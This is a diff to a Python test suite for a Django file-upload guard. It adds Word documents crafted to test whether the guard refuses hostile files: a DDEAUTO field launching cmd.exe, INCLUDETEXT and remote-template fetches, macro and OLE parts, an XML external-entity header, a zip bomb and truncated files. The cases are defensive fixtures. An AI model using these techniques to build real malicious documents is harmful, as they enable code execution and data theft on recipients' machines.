@@ -4,6 +4,9 @@ import zipfile
 
 import pytest
 from django.conf import settings
+from docx import Document
+from docx.oxml import OxmlElement
+from docx.oxml.ns import qn
 from PIL import Image
 from pypdf import PdfWriter
 from pypdf.generic import DictionaryObject, NameObject, TextStringObject
@@ -19,6 +22,25 @@ from tests.factories import make_officer
 pytestmark = pytest.mark.django_db
 
 GOOD = workbook([["Mã số thuế", "Tên"], ["0100109106", "A"]])
+
+
+def letter(*instructions):
+    """A document of Word with a page number, a link and one more field for each of the instructions, in two pieces."""
+    document, buffer = Document(), io.BytesIO()
+    for instruction in ("PAGE", 'HYPERLINK "http://dde.example/database"', *instructions):
+        run = document.add_paragraph("Mẫu đơn đề nghị").add_run()
+        for kind, text in (("begin", ""), ("", instruction[:3]), ("", instruction[3:]), ("separate", ""), ("end", "")):
+            element = OxmlElement("w:fldChar" if kind else "w:instrText")
+            if kind:
+                element.set(qn("w:fldCharType"), kind)
+            element.text = text
+            run._r.append(element)
+    document.save(buffer)
+    return buffer.getvalue()
+
+
+LETTER = letter()
+WORDS = "word/document.xml"
 
 
 def picture(kind, size=(20, 20)):
@@ -44,9 +66,9 @@ def paper(**options):
     return buffer.getvalue()
 
 
-def bomb(part=SHEET1, size=300 * 2**20):
+def bomb(part=SHEET1, size=300 * 2**20, of=GOOD):
     out = io.BytesIO()
-    with zipfile.ZipFile(io.BytesIO(GOOD)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
+    with zipfile.ZipFile(io.BytesIO(of)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
         for entry in old.infolist():
             if entry.filename != part:
                 new.writestr(entry, old.read(entry))
@@ -148,6 +170,53 @@ HOSTILE = {
     "pixel flood": ("a.png", lambda: flood()),
     "no ending": ("khong-duoi", lambda: GOOD),
     "picture that is none": ("a.jpg", lambda: picture("PNG")),
+    "workbook as document": ("a.docx", lambda: GOOD),
+    "document as workbook": ("a.xlsx", lambda: LETTER),
+    "document with macros": ("a.docx", lambda: changed(LETTER, add=[("word/vbaProject.bin", b"\xd0\xcf")])),
+    "only called .docm": ("a.docm", lambda: LETTER),
+    "old document under a new name": ("a.docx", lambda: guard.OLD_OFFICE + bytes(500)),
+    "object in a document": ("a.docx", lambda: changed(LETTER, add=[("word/embeddings/oleObject1.bin", b"x")])),
+    "page in a document": ("a.docx", lambda: changed(LETTER, add=[("word/afchunk.mht", b"<html/>")])),
+    "document that runs a program": ("a.docx", lambda: letter('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')),
+    "document that fetches another": ("a.docx", lambda: letter('INCLUDETEXT "http://a/b"')),
+    "document that makes up a field": ("a.docx", lambda: letter("QUOTE 68 68 69")),
+    "field within a field": (
+        "a.docx",
+        lambda: changed(
+            LETTER,
+            {
+                WORDS: lambda x: x.replace(
+                    b"<w:instrText>E</w:instrText>",
+                    b'<w:fldChar w:fldCharType="begin"/><w:instrText>DATE</w:instrText><w:fldChar w:fldCharType="end"/>'
+                    b"<w:instrText>NIC</w:instrText>",
+                )
+            },
+        ),
+    ),
+    "field in one piece": (
+        "a.docx",
+        lambda: changed(
+            LETTER, {WORDS: lambda x: x.replace(b"<w:sectPr", b'<w:fldSimple w:instr=" DDE a b"/><w:sectPr')}
+        ),
+    ),
+    "document with a template elsewhere": (
+        "a.docx",
+        lambda: changed(
+            LETTER,
+            add=[
+                (
+                    "word/_rels/settings.xml.rels",
+                    b'<Relationship Type="x/attachedTemplate" Target="http://a/b.dotm" TargetMode="External"/>',
+                )
+            ],
+        ),
+    ),
+    "external entity in a document": (
+        "a.docx",
+        lambda: changed(LETTER, {WORDS: lambda x: DOCTYPE + x[x.index(b"<w:") :]}),
+    ),
+    "document bomb": ("a.docx", lambda: bomb(WORDS, of=LETTER)),
+    "cut document": ("a.docx", lambda: LETTER[: len(LETTER) // 2]),
 }
 
 
@@ -178,6 +247,7 @@ def test_hostile_file_is_refused_with_a_sentence(name, now):
         ("Số liệu 2025.xlsx", GOOD, "xlsx"),
         ("bao-cao.CSV", "Mã số thuế;Tên\n0100109106;Công ty\n".encode(), "csv"),
         ("bao-cao.csv", "Mã số thuế\tTên\n".encode("utf-16"), "csv"),
+        ("Mẫu đơn.docx", LETTER, "docx"),
         ("quyet-dinh.pdf", paper(), "pdf"),
         ("anh.png", picture("PNG"), "png"),
         ("anh.jpeg", picture("JPEG"), "jpeg"),
